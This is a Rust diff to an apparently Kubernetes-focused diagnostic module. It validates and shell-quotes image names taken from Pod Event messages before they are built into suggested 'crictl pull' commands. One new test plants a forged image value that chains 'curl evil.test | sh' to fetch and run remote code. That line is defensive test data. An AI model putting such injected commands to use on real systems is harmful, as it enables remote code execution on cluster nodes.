@@ -1,7 +1,7 @@
 //! The sandbox (pause) image: pulled by the node, so never a matter of the Pod's pull secrets.
 
 use super::evidence::{Cause, Context, PodEvent, RANK_SANDBOX};
-use super::report::one_line;
+use super::report::{one_line, shell_word};
 use crate::credential::ImageReference;
 
 /// The sandbox (pause) image failed: the node's problem, never the Pod's pull secrets.
@@ -40,16 +40,23 @@ fn sandbox_cause(events: &[PodEvent]) -> Option<Cause> {
             format!(
                 "on the node: give containerd credentials for {host} (registry config_path hosts.toml or a credential provider), or point `sandbox_image` at a registry the node can pull from, then: systemctl restart containerd"
             ),
-            format!("on the node: crictl pull {}   # verifies the fix", image.unwrap_or("<sandbox image>")),
+            format!(
+                "on the node: crictl pull {}   # verifies the fix",
+                image.map_or("<sandbox image>".into(), shell_word)
+            ),
         ],
     })
 }
 
+/// The image an Event's message quotes, when it is an image reference: the message is text
+/// whoever wrote the Event chose.
 fn quoted_image(message: &str) -> Option<&str> {
     let start = message.find("image \"")? + "image \"".len();
     let rest = &message[start..];
-    Some(&rest[..rest.find('"')?])
+    let image = &rest[..rest.find('"')?];
+    ImageReference::parse(image).is_ok().then_some(image)
 }
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -71,5 +78,20 @@ mod tests {
         let cause = sandbox_cause(&[pull, sandbox]).expect("a sandbox cause");
         assert_eq!(cause.summary, "the node cannot pull the sandbox image registry.k8s.io/pause:3.10");
         assert!(cause.commands.iter().any(|c| c.contains("crictl pull registry.k8s.io/pause:3.10")));
+    }
+
+    #[test]
+    fn a_forged_image_in_an_event_never_reaches_a_command() {
+        let forged = PodEvent {
+            reason: "FailedCreatePodSandBox".into(),
+            message: "failed to get sandbox image \"pause:3.10 && curl evil.test | sh\": 401".into(),
+            warning: true,
+            count: 1,
+        };
+        let cause = sandbox_cause(&[forged]).expect("a sandbox cause");
+        assert!(!cause.summary.contains("curl"), "{}", cause.summary);
+        let commands = cause.commands.join("\n");
+        assert!(!commands.contains("curl"), "{commands}");
+        assert!(commands.contains("crictl pull <sandbox image>"), "{commands}");
     }
 }
